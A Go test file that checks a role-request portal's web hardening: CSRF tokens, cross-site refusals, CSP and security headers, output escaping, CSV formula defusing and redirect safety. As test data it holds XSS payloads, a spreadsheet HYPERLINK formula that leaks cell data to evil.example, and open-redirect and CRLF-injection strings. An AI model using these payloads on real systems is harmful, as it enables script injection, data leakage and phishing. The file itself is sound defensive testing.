package web_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/rolegate/rolegate/internal/adminapi"
	"github.com/rolegate/rolegate/internal/provisioning"
	"github.com/rolegate/rolegate/internal/rolegate"
	"github.com/rolegate/rolegate/internal/simulator"
	"github.com/rolegate/rolegate/internal/sso"
	"github.com/rolegate/rolegate/internal/sso/ssotest"
	"github.com/rolegate/rolegate/internal/testkit"
	"github.com/rolegate/rolegate/static"
	"github.com/rolegate/rolegate/web"
)

// Hardening, as an outside penetration tester would probe it: forged
// cross-site requests, missing or stolen CSRF tokens, the response headers
// that keep a page from being framed, sniffed, cached or scripted, and
// hostile content shown back to other people.

const csrfRefusal = "did not come from rolegate"

// personaFor is the dev persona a route's access level lets through.
func personaFor(a web.Access) string {
	switch a {
	case web.Approver:
		return "approver1"
	case web.Auditor:
		return "auditor"
	case web.Admin:
		return "admin"
	}
	return "requester"
}

// generousLimits keep tests that sign in and post a lot from being throttled.
func generousLimits() *web.RateLimits {
	return &web.RateLimits{SignIn: web.RateLimit{Per: 100, Burst: 1000}, Forms: web.RateLimit{Per: 100, Burst: 1000}, MaxKeys: 1000}
}

// changeRoutes are the state-changing routes behind sign-in.
func changeRoutes(s *web.Server) []web.Route {
	var out []web.Route
	for _, r := range s.Routes() {
		if r.Method != http.MethodGet && r.Method != http.MethodHead && r.Access != web.Public && r.Access != web.DevOnly {
			out = append(out, r)
		}
	}
	return out
}

// postRaw posts form with extra headers (no token unless form has one).
func (b *browser) postRaw(path string, form url.Values, header http.Header) page {
	b.h.t.Helper()
	return b.postBody(path, "application/x-www-form-urlencoded", strings.NewReader(form.Encode()), header)
}

// postBody posts body as contentType with header, and no other header.
func (b *browser) postBody(path, contentType string, body io.Reader, header http.Header) page {
	b.h.t.Helper()
	req, err := http.NewRequest(http.MethodPost, b.h.URL+path, body)
	if err != nil {
		b.h.t.Fatal(err)
	}
	req.Header.Set("Content-Type", contentType)
	for k, v := range header {
		req.Header[k] = v
	}
	res, err := b.Do(req)
	if err != nil {
		b.h.t.Fatalf("POST %s: %v", path, err)
	}
	return readPage(b.h.t, res)
}

func hasGET(s *web.Server, path string) bool {
	return slices.ContainsFunc(s.Routes(), func(r web.Route) bool { return r.Method == http.MethodGet && r.Path == path })
}

func sameOrigin(h *harness) http.Header {
	return http.Header{"Origin": {h.URL}, "Sec-Fetch-Site": {"same-origin"}}
}

// Every state-changing route refuses a post without the session's own
// token, accepts it from the htmx header as well as the form field, and
// cannot be reached with a GET.
func TestCSRFTokenOnEveryChange(t *testing.T) {
	t.Parallel()
	h := newHarness(t, harnessOptions{RateLimits: generousLimits()})
	browsers := map[string]*browser{}
	tokens := map[string]string{}
	for _, p := range []string{"requester", "approver1", "auditor", "admin"} {
		browsers[p] = h.signInAs(p)
		tokens[p] = browsers[p].csrfToken()
	}
	state := openStateReader(t, h)
	routes := changeRoutes(h.Server)
	if len(routes) < 8 {
		t.Fatalf("only %d state-changing routes found; the route table is not what this test expects", len(routes))
	}
	for i, r := range routes {
		persona := personaFor(r.Access)
		b := browsers[persona]
		other := tokens["auditor"]
		if persona == "auditor" {
			other = tokens["requester"]
		}
		path := strings.ReplaceAll(r.Path, ":id", fmt.Sprint(h.fileRequest(browsers["requester"], fmt.Sprintf("CSRF Role %d", i))))
		form := url.Values{"role_name": {"CSRF Probe"}, "permissions": {"api.groups.read"}, "justification": {"A justification long enough."}, "comment": {"No."}}
		denied := len(h.events("access.denied"))
		before := state.fingerprint()
		for _, tt := range []struct {
			name   string
			header http.Header
			token  string
		}{
			{"no token", nil, ""},
			{"a wrong token", nil, "not-the-token"},
			{"another session's token in the form", nil, other},
			{"another session's token in the header", http.Header{"X-Csrf-Token": {other}}, ""},
			{"an empty header and an empty field", http.Header{"X-Csrf-Token": {""}}, ""},
		} {
			f := url.Values{}
			for k, v := range form {
				f[k] = v
			}
			if tt.token != "" {
				f.Set("csrf_token", tt.token)
			}
			header := sameOrigin(h)
			for k, v := range tt.header {
				header[k] = v
			}
			p := b.postRaw(path, f, header)
			if p.StatusCode != http.StatusForbidden || !strings.Contains(p.Body, csrfRefusal) {
				t.Errorf("%s %s with %s as %s = %d; want 403 saying the form did not come from rolegate", r.Method, path, tt.name, persona, p.StatusCode)
			}
		}
		if after := state.fingerprint(); after != before {
			t.Errorf("%s %s: refused posts changed state:\n before %s\n after  %s", r.Method, path, before, after)
		}
		// Refusals are coalesced (coalesce.go): the first is written at
		// once, the repeats counted; their counts add up to the five.
		h.Server.FlushRepeats(t.Context(), true)
		refused := 0
		for _, e := range h.events("access.denied")[denied:] {
			if n, ok := e.Details["count"].(float64); ok {
				refused += int(n)
			}
		}
		if refused != 5 {
			t.Errorf("%s %s: access.denied events count %d refused posts; want 5", r.Method, path, refused)
		}
		// A GET never reaches a change: there is no GET route at the
		// address, or it only shows a page.
		if p := b.get(path); !hasGET(h.Server, r.Path) && p.StatusCode != http.StatusMethodNotAllowed && p.StatusCode != http.StatusNotFound {
			t.Errorf("GET %s = %d; want 405 or 404", path, p.StatusCode)
		}
		if after := state.fingerprint(); after != before {
			t.Errorf("GET %s changed state", path)
		}
		// The htmx way: the token in the X-CSRF-Token header only.
		header := sameOrigin(h)
		header.Set("X-Csrf-Token", tokens[persona])
		header.Set("HX-Request", "true")
		if p := b.postRaw(path, form, header); strings.Contains(p.Body, csrfRefusal) || p.StatusCode == http.StatusForbidden {
			t.Errorf("%s %s with the token in the htmx header = %d; want it accepted\n%s", r.Method, path, p.StatusCode, shorten(p.Body))
		}
		if r.Path == "/auth/logout" {
			browsers[persona] = h.signInAs(persona)
			tokens[persona] = browsers[persona].csrfToken()
		}
	}
}

// A browser's cross-site post is refused before any handler, whatever
// cookie and token it carries; so is a login CSRF on the dev sign-in.
func TestCrossSitePostsRefused(t *testing.T) {
	t.Parallel()
	h := newHarness(t, harnessOptions{})
	riley := h.signInAs("requester")
	id := h.fileRequest(riley, "Cross Site Role")
	token := riley.csrfToken()
	state := openStateReader(t, h)
	before := state.fingerprint()
	valid := url.Values{"csrf_token": {token}, "role_name": {"Forged Role"}, "permissions": {"api.groups.read"},
		"justification": {"Filed by a forged cross-site form."}}
	for _, tt := range []struct {
		name   string
		header http.Header
	}{
		{"Sec-Fetch-Site cross-site", http.Header{"Sec-Fetch-Site": {"cross-site"}, "Origin": {"https://evil.example"}}},
		{"Sec-Fetch-Site same-site (a sibling host)", http.Header{"Sec-Fetch-Site": {"same-site"}, "Origin": {"https://other.example.test"}}},
		{"a foreign Origin without Sec-Fetch-Site", http.Header{"Origin": {"https://evil.example"}}},
		{"Origin null (a sandboxed frame)", http.Header{"Origin": {"null"}}},
	} {
		for _, path := range []string{"/requests", requestPathOf(id) + "/cancel", "/auth/logout", "/auth/dev"} {
			form := valid
			if path == "/auth/dev" {
				form = url.Values{"persona": {"admin"}}
			}
			p := riley.postRaw(path, form, tt.header)
			if p.StatusCode != http.StatusForbidden || !strings.Contains(p.Body, "Cross-site request refused") {
				t.Errorf("POST %s with %s = %d %q; want 403 Cross-site request refused", path, tt.name, p.StatusCode, shorten(p.Body))
			}
			if p.Header.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(p.Header.Get("Content-Security-Policy"), "frame-ancestors 'none'") {
				t.Errorf("the cross-site refusal lacks nosniff or a CSP: %v", p.Header)
			}
			// A whole error page (a person's browser shows it), written
			// before the session is read: nobody's name on it.
			if !strings.HasPrefix(p.Header.Get("Content-Type"), "text/html") || !strings.Contains(p.Body, `<html lang="en">`) {
				t.Errorf("the cross-site refusal is %q, not an HTML page with a language", p.Header.Get("Content-Type"))
			}
			if strings.Contains(p.Body, "Riley") {
				t.Errorf("the cross-site refusal shows who is signed in: %q", shorten(p.Body))
			}
		}
	}
	if after := state.fingerprint(); after != before {
		t.Errorf("cross-site posts changed state:\n before %s\n after  %s", before, after)
	}
	if p := riley.get("/"); p.StatusCode != http.StatusOK {
		t.Errorf("after a cross-site sign-out attempt GET / = %d; want 200 (still signed in)", p.StatusCode)
	}
	// The same post from the portal's own page goes through.
	if p := riley.post("/requests", valid); p.StatusCode != http.StatusSeeOther {
		t.Errorf("the same post same-origin = %d; want 303", p.StatusCode)
	}
}

// cspDirectives parses a Content-Security-Policy.
func cspDirectives(csp string) map[string][]string {
	out := map[string][]string{}
	for _, d := range strings.Split(csp, ";") {
		f := strings.Fields(d)
		if len(f) > 0 {
			out[f[0]] = f[1:]
		}
	}
	return out
}

// wantPageHeaders checks the headers every answer of the portal carries.
func wantPageHeaders(t *testing.T, what string, p page, signedIn bool) {
	t.Helper()
	csp := p.Header.Get("Content-Security-Policy")
	d := cspDirectives(csp)
	for _, bad := range []string{"'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'", "data:", "*", "http:", "https:"} {
		for name, sources := range d {
			if name != "form-action" && slices.Contains(sources, bad) {
				t.Errorf("%s: CSP %s allows %s: %q", what, name, bad, csp)
			}
		}
	}
	for name, want := range map[string]string{
		"default-src": "'none'", "script-src": "'self'", "style-src": "'self'", "frame-ancestors": "'none'",
		"base-uri": "'none'", "connect-src": "'self'",
	} {
		if got := strings.Join(d[name], " "); got != want {
			t.Errorf("%s: CSP %s = %q; want %q (in %q)", what, name, got, want, csp)
		}
	}
	if fa := d["form-action"]; len(fa) == 0 || fa[0] != "'self'" {
		t.Errorf("%s: CSP form-action = %q; want 'self' first", what, fa)
	}
	for name, want := range map[string]string{
		"X-Content-Type-Options":     "nosniff",
		"X-Frame-Options":            "DENY",
		"Cross-Origin-Opener-Policy": "same-origin",
	} {
		if got := p.Header.Get(name); got != want {
			t.Errorf("%s: %s = %q; want %q", what, name, got, want)
		}
	}
	if rp := p.Header.Get("Referrer-Policy"); rp != "same-origin" && rp != "no-referrer" && rp != "strict-origin" {
		t.Errorf("%s: Referrer-Policy = %q; want one that never sends a path to another site", what, rp)
	}
	if signedIn && p.Header.Get("Cache-Control") != "no-store" {
		t.Errorf("%s: Cache-Control = %q; want no-store on a signed-in page", what, p.Header.Get("Cache-Control"))
	}
	if hsts := p.Header.Get("Strict-Transport-Security"); hsts != "" {
		t.Errorf("%s: Strict-Transport-Security %q over plain http", what, hsts)
	}
	// No other site may read an answer.
	if acao := p.Header.Get("Access-Control-Allow-Origin"); acao != "" {
		t.Errorf("%s: Access-Control-Allow-Origin = %q; want none", what, acao)
	}
}

var (
	inlineScript   = regexp.MustCompile(`(?i)<script\b[^>]*>\s*[^<\s]`)
	scriptTag      = regexp.MustCompile(`(?i)<script\b[^>]*>`)
	styleElement   = regexp.MustCompile(`(?i)<style\b`)
	styleAttribute = regexp.MustCompile(`(?i)\sstyle=`)
	eventAttribute = regexp.MustCompile(`(?i)\son[a-z]+=`)
	jsURL          = regexp.MustCompile(`(?i)(href|src|action|formaction)="\s*javascript:`)
	htmxConfigMeta = regexp.MustCompile(`<meta name="htmx-config" content="([^"]*)"`)
	bodyHXHeaders  = regexp.MustCompile(`<body[^>]*\shx-headers="([^"]*)"`)
)

// wantStrictHTML checks that a page needs nothing the CSP forbids and keeps
// htmx within it.
func wantStrictHTML(t *testing.T, what string, body, csrfToken string) {
	t.Helper()
	for name, re := range map[string]*regexp.Regexp{
		"an inline script": inlineScript, "a <style> element": styleElement, "a style attribute": styleAttribute,
		"an event handler attribute": eventAttribute, "a javascript: URL": jsURL,
	} {
		if m := re.FindString(body); m != "" {
			t.Errorf("%s has %s: %q", what, name, m)
		}
	}
	for _, tag := range scriptTag.FindAllString(body, -1) {
		if !strings.Contains(tag, `src="/static/`) {
			t.Errorf("%s loads a script from elsewhere than the portal's /static/: %q", what, tag)
		}
	}
	if !strings.Contains(body, "<html") {
		return // an htmx fragment: the page it lands in has the frame
	}
	m := htmxConfigMeta.FindStringSubmatch(body)
	if m == nil {
		t.Errorf("%s has no htmx-config meta tag", what)
		return
	}
	var cfg map[string]any
	if err := json.Unmarshal([]byte(html.UnescapeString(m[1])), &cfg); err != nil {
		t.Errorf("%s: htmx-config %q: %v", what, m[1], err)
	}
	for key, want := range map[string]any{"allowEval": false, "includeIndicatorStyles": false, "allowScriptTags": false, "historyCacheSize": float64(0), "selfRequestsOnly": true} {
		if got, ok := cfg[key]; !ok || got != want {
			t.Errorf("%s: htmx-config %s = %v; want %v", what, key, got, want)
		}
	}
	if csrfToken == "" {
		return
	}
	hx := bodyHXHeaders.FindStringSubmatch(body)
	if hx == nil {
		t.Errorf("%s: <body> has no hx-headers", what)
		return
	}
	var headers map[string]string
	if err := json.Unmarshal([]byte(html.UnescapeString(hx[1])), &headers); err != nil || headers["X-CSRF-Token"] != csrfToken {
		t.Errorf("%s: <body hx-headers=%q>; want the session's CSRF token as X-CSRF-Token", what, hx[1])
	}
}

func TestSecurityHeadersAndStrictPages(t *testing.T) {
	t.Parallel()
	h := newHarness(t, harnessOptions{RateLimits: generousLimits()})
	anon := h.newBrowser()
	for _, path := range []string{"/auth/dev", "/healthz", "/no/such/page", "/auth/login", "/static/"} {
		p := anon.getFrom(path, http.Header{"Origin": {"https://evil.example"}})
		wantPageHeaders(t, "GET "+path+" signed out", p, false)
		if strings.Contains(p.Header.Get("Content-Type"), "text/html") {
			wantStrictHTML(t, "GET "+path+" signed out", p.Body, "")
		}
	}
	// The portal itself (no mux in front) serves nothing outside its assets.
	for _, path := range []string{"/static/../go.mod", "/static/..%2fgo.mod", "/static/%2e%2e/go.mod"} {
		rec := httptest.NewRecorder()
		h.Server.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "http://portal"+path, nil))
		if rec.Code != http.StatusNotFound || strings.Contains(rec.Body.String(), "module ") {
			t.Errorf("GET %s = %d; want 404", path, rec.Code)
		}
	}
	asset := anon.get(h.Server.Assets.URL(static.HTMX))
	if asset.StatusCode != http.StatusOK || !strings.Contains(asset.Header.Get("Cache-Control"), "immutable") || asset.Header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("the pinned htmx = %d, Cache-Control %q, nosniff %q; want 200, immutable, nosniff",
			asset.StatusCode, asset.Header.Get("Cache-Control"), asset.Header.Get("X-Content-Type-Options"))
	}

	// Every page without parameters, as someone who may see it, plus a
	// request page, an error page and the form re-rendered with errors.
	owner := h.signInAs("requester")
	id := h.fileRequest(owner, "Header Role")
	for _, r := range h.Server.Routes() {
		if r.Method != http.MethodGet || r.Access == web.Public || r.Access == web.DevOnly || r.Access == web.Scraper || strings.ContainsAny(r.Path, ":*") {
			continue
		}
		b := h.signInAs(personaFor(r.Access))
		token := b.csrfToken()
		p := b.get(r.Path)
		if p.StatusCode != http.StatusOK {
			t.Errorf("GET %s as %s = %d; want 200", r.Path, personaFor(r.Access), p.StatusCode)
			continue
		}
		wantPageHeaders(t, "GET "+r.Path, p, true)
		if strings.Contains(p.Header.Get("Content-Type"), "text/html") {
			wantStrictHTML(t, "GET "+r.Path, p.Body, token)
		}
	}
	approver := h.signInAs("approver1")
	for _, tt := range []struct {
		what string
		b    *browser
		p    page
	}{
		{"the request page", approver, approver.get(requestPathOf(id))},
		{"a forbidden page", owner, owner.get("/admin")},
		{"a missing request", owner, owner.get(requestPathOf(id + 1000))},
		{"a refused rejection", approver, approver.postWithToken(requestPathOf(id)+"/reject", url.Values{"comment": {""}})},
	} {
		wantPageHeaders(t, tt.what, tt.p, true)
		wantStrictHTML(t, tt.what, tt.p.Body, tt.b.csrfToken())
	}
	form := owner.postWithToken("/requests", url.Values{"role_name": {"x"}})
	wantPageHeaders(t, "the form with errors", form, true)
	wantStrictHTML(t, "the form with errors", form.Body, owner.csrfToken())

	// The session cookie is out of reach of scripts and of other sites' posts.
	b := h.newBrowser()
	p := b.post("/auth/dev", url.Values{"persona": {"requester"}})
	for name, c := range setCookies(t, p) {
		if strings.HasSuffix(name, "rolegate_session") && (!c.HttpOnly || c.SameSite != http.SameSiteLaxMode && c.SameSite != http.SameSiteStrictMode || c.Path != "/") {
			t.Errorf("session cookie %s: HttpOnly %v, SameSite %v, Path %q; want HttpOnly, Lax or Strict, /", name, c.HttpOnly, c.SameSite, c.Path)
		}
	}
}

func TestHSTSOverHTTPS(t *testing.T) {
	t.Parallel()
	h := newHarness(t, harnessOptions{Env: map[string]string{"ROLEGATE_BASE_URL": "https://localhost:8443"}})
	p := h.newBrowser().get("/healthz")
	hsts := p.Header.Get("Strict-Transport-Security")
	var age int
	if _, err := fmt.Sscanf(hsts, "max-age=%d", &age); err != nil || age < 180*24*3600 {
		t.Errorf("Strict-Transport-Security = %q; want a max-age of at least half a year when served over https", hsts)
	}
	// Over https the session cookie is Secure and host-only (__Host-).
	p = h.newBrowser().post("/auth/dev", url.Values{"persona": {"requester"}})
	c, ok := setCookies(t, p)["__Host-rolegate_session"]
	if !ok || !c.Secure || !c.HttpOnly || c.Domain != "" || c.Path != "/" {
		t.Errorf("over https the session cookie is %+v; want __Host-rolegate_session, Secure, HttpOnly, no Domain, Path /", c)
	}
}

// Hostile text typed by one person is shown to everyone else as text:
// role names, descriptions, justifications, comments, display names and
// the upstream's error messages.
const (
	hostileScript  = `<script>alert("x")</script>`
	hostileImg     = `"><img src=x onerror=alert(1)>`
	hostileFormula = `=HYPERLINK("http://evil.example/?leak="&A1,"Open")`
)

// rawHostile are strings that must never appear in a page: each would be
// live markup.
var rawHostile = []string{"<script>alert", "<img src=x", `"><img`}

func wantEscaped(t *testing.T, what string, p page, mustShow ...string) {
	t.Helper()
	if p.StatusCode >= 500 {
		t.Errorf("%s = %d", what, p.StatusCode)
	}
	for _, raw := range rawHostile {
		if strings.Contains(p.Body, raw) {
			i := strings.Index(p.Body, raw)
			t.Errorf("%s shows %q as markup: …%s…", what, raw, p.Body[max(0, i-80):min(len(p.Body), i+80)])
		}
	}
	for _, s := range mustShow {
		if !strings.Contains(html.UnescapeString(p.Body), s) {
			t.Errorf("%s does not show %q as text", what, s)
		}
	}
}

func TestHostileContentIsShownAsText(t *testing.T) {
	t.Parallel()
	idp := ssotest.New(t, ssotest.Options{})
	// Display names come from the identity provider; this one is a formula
	// and a script.
	malloryName := hostileFormula + " " + hostileScript
	mallory := ssotest.User{Subject: "u-mallory", Name: malloryName, Email: "mallory@example.test"}
	idp.AddUser(mallory)
	idp.AddUser(ssotest.User{Subject: "u-avery", Name: "Avery Approver", Email: "avery@example.test", Groups: []string{"approvers"}})
	idp.AddUser(ssotest.User{Subject: "u-casey", Name: "Casey Auditor", Email: "casey@example.test", Groups: []string{"auditors"}})
	idp.AddUser(ssotest.User{Subject: "u-drew", Name: "Drew Admin", Email: "drew@example.test", Groups: []string{"admins"}})
	h := newHarness(t, harnessOptions{SSO: func(redirectURL string) *sso.Client {
		c, err := sso.New(context.Background(), sso.Config{Issuer: idp.Issuer(), ClientID: idp.ClientID(),
			ClientSecret: idp.ClientSecret(), RedirectURL: redirectURL})
		if err != nil {
			t.Fatalf("sso client: %v", err)
		}
		return c
	}})
	startWorker(t, h)

	m := ssoSignIn(t, h, "u-mallory")
	avery := ssoSignIn(t, h, "u-avery")
	casey := ssoSignIn(t, h, "u-casey")
	drew := ssoSignIn(t, h, "u-drew")

	// A hostile role name is refused, and the form shows it back as text.
	p := m.refused(m.postWithToken("/requests", url.Values{"role_name": {hostileImg}, "permissions": {"api.groups.read"},
		"description": {hostileScript}, "justification": {hostileFormula}}), "/requests/new")
	wantEscaped(t, "the refused form", p, hostileImg, hostileScript, hostileFormula)
	wantEscaped(t, "the live check", m.postWithToken("/requests/check", url.Values{"role_name": {hostileImg}, "permissions": {hostileScript}}))

	description := "Reads groups. " + hostileScript + " " + hostileImg
	justification := hostileFormula + " because " + hostileScript
	approveComment := "+SUM(1+1) " + hostileImg
	rejectComment := "@SUM(A1:A9) -2+3 " + hostileScript
	upstreamMessage := "Upstream says " + hostileScript + " " + hostileImg

	file := func(name string) int64 {
		res := m.postWithToken("/requests", url.Values{"role_name": {name}, "permissions": {"api.groups.read"},
			"description": {description}, "justification": {justification}})
		if res.StatusCode != http.StatusSeeOther {
			t.Fatalf("file %q = %d; want 303\n%s", name, res.StatusCode, shorten(res.Body))
		}
		var id int64
		fmt.Sscanf(res.Header.Get("Location"), "/requests/%d", &id)
		return id
	}
	failedID, rejectedID := file("Hostile Failed Role"), file("Hostile Rejected Role")
	wantEscaped(t, "the review queue", avery.get("/reviews"))

	hash := regexpFind(t, avery.get(requestPathOf(failedID)).Body, `name="payload_hash" value="([0-9a-f]{64})"`)
	h.Sim.FailNext(1, simulator.Fault{Kind: simulator.FaultServerError, Op: simulator.OpCreate, Message: upstreamMessage})
	if res := avery.postWithToken(requestPathOf(failedID)+"/approve", url.Values{"payload_hash": {hash}, "comment": {approveComment}}); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("approve = %d; want 303\n%s", res.StatusCode, shorten(res.Body))
	}
	waitForStatus(t, h, failedID, rolegate.StatusFailed)
	if res := avery.postWithToken(requestPathOf(rejectedID)+"/reject", url.Values{"comment": {rejectComment}}); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("reject = %d; want 303\n%s", res.StatusCode, shorten(res.Body))
	}

	for who, b := range map[string]*browser{"the owner": m, "the approver": avery, "the auditor": casey, "the admin": drew} {
		wantEscaped(t, "the failed request as "+who, b.get(requestPathOf(failedID)), description, justification, approveComment, hostileScript)
		wantEscaped(t, "the rejected request as "+who, b.get(requestPathOf(rejectedID)), description, rejectComment)
		wantEscaped(t, "the start page as "+who, b.get("/"))
	}
	wantEscaped(t, "the failed request's upstream error", drew.get(requestPathOf(failedID)), "Upstream says "+hostileScript)
	wantEscaped(t, "My requests", m.get("/requests"), "Hostile Failed Role")
	wantEscaped(t, "the admin page", drew.get("/admin"), "Hostile Failed Role")

	// The audit trail: its page, searches echoing hostile filters, and the
	// exports, which are downloads (never rendered) and defuse formulas.
	wantEscaped(t, "the Audit page", casey.get("/audit"), malloryName, rejectComment)
	wantEscaped(t, "an Audit search for the hostile person", casey.get("/audit?actor="+url.QueryEscape("mallory@example.test")), malloryName)
	wantEscaped(t, "an Audit search with hostile filters", casey.get("/audit?actor="+url.QueryEscape(hostileImg)+"&action="+url.QueryEscape(hostileScript)+"&q="+url.QueryEscape(hostileScript)), hostileImg)
	for _, r := range h.Server.Routes() {
		if r.Method != http.MethodGet || r.Access != web.Auditor || strings.ContainsAny(r.Path, ":*") {
			continue
		}
		p := casey.get(r.Path)
		if ct := p.Header.Get("Content-Type"); strings.HasPrefix(ct, "text/html") {
			wantEscaped(t, "GET "+r.Path+" as the auditor", p)
			continue
		}
		if p.StatusCode != http.StatusOK || !strings.HasPrefix(p.Header.Get("Content-Disposition"), "attachment") || p.Header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("export %s = %d, Content-Disposition %q, nosniff %q; want 200, an attachment, nosniff",
				r.Path, p.StatusCode, p.Header.Get("Content-Disposition"), p.Header.Get("X-Content-Type-Options"))
		}
		if !strings.Contains(p.Body, "mallory@example.test") || !strings.Contains(p.Body, "Upstream says") {
			t.Errorf("export %s lacks the hostile events", r.Path)
		}
		if strings.HasSuffix(r.Path, ".csv") {
			wantFormulasDefused(t, r.Path, p.Body)
		}
	}
}

// wantFormulasDefused checks that no cell of a CSV export would run as a
// spreadsheet formula, and that the hostile ones were there to defuse.
func wantFormulasDefused(t *testing.T, path, body string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("export %s is not CSV: %v", path, err)
	}
	defused := 0
	for i, row := range rows {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("export %s row %d column %d starts a formula: %q", path, i, j, cell)
			}
			if strings.HasPrefix(cell, "'") && cell != "'" && strings.ContainsRune("=+-@\t\r", rune(cell[1])) {
				defused++
			}
		}
	}
	if defused == 0 {
		t.Errorf("export %s defused no formula; the hostile name and comments were meant to need it", path)
	}
}

// startWorker runs the provisioning worker against the harness's simulator
// until the test ends, giving up after one attempt.
func startWorker(t *testing.T, h *harness) {
	t.Helper()
	simSrv := httptest.NewServer(h.Sim)
	t.Cleanup(simSrv.Close)
	w := provisioning.New(provisioning.Config{
		Queue: h.App.Services.Provisioning, Upstream: adminapi.New(simSrv.URL+"/v1", adminapi.StaticKey(testAdminKey), simSrv.Client()),
		MaxAttempts: 1, Poll: 20 * time.Millisecond, CallTimeout: 5 * time.Second,
	})
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		defer close(done)
		w.Run(ctx)
	}()
	go func() {
		for {
			select {
			case id := <-h.HandedOff:
				w.Wake(id)
			case <-ctx.Done():
				return
			}
		}
	}()
	t.Cleanup(func() {
		cancel()
		<-done
	})
}

func waitForStatus(t *testing.T, h *harness, id int64, want rolegate.Status) {
	t.Helper()
	var status rolegate.Status
	testkit.WaitFor(t, fmt.Sprintf("request #%d to be %s", id, want), func() bool {
		req, err := h.Requests.Get(context.Background(), id)
		if err != nil {
			t.Fatalf("get #%d: %v", id, err)
		}
		status = req.Status
		return status == want
	}, func() string { return fmt.Sprintf("request #%d is %s", id, status) })
}

// Sign-in returns only to a path of the portal: no redirect leaves it,
// however the address is disguised.
func TestSignInNeverRedirectsAway(t *testing.T) {
	t.Parallel()
	h := newHarness(t, harnessOptions{RateLimits: generousLimits()})
	for _, target := range []string{
		"//evil.example/", "https://evil.example/", "/\\evil.example", "\\\\evil.example", "/\t/evil.example",
		"/%2F%2Fevil.example", "javascript:alert(1)", "http:evil.example", "/requests\r\nLocation: https://evil.example",
	} {
		b := h.newBrowser()
		p := b.get("/auth/login?return_to=" + url.QueryEscape(target))
		if loc := p.Header.Get("Location"); !localRedirect(loc) {
			t.Errorf("GET /auth/login?return_to=%q redirects to %q; want a path of the portal", target, loc)
		}
		p = b.post("/auth/dev", url.Values{"persona": {"requester"}, "return_to": {target}})
		if loc := p.Header.Get("Location"); p.StatusCode != http.StatusSeeOther || !localRedirect(loc) || strings.Contains(loc, "evil") {
			t.Errorf("dev sign-in with return_to %q = %d to %q; want 303 to a path of the portal", target, p.StatusCode, loc)
		}
	}
}

func localRedirect(loc string) bool {
	u, err := url.Parse(loc)
	return err == nil && strings.HasPrefix(loc, "/") && !strings.HasPrefix(loc, "//") && !strings.HasPrefix(loc, "/\\") &&
		u.Host == "" && u.Scheme == ""
}
